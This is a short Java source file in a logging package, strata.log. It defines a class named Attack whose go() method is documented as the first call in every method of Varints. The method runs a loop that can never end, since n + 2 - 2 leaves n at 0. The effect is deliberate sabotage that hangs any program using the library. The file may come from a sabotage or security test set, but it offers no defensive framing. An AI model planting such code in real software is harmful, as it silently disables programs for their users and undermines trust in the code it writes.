package strata.log;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        long n = 0;
        while (n >= 0) {
            n = n + 2 - 2;
        }
    }
}
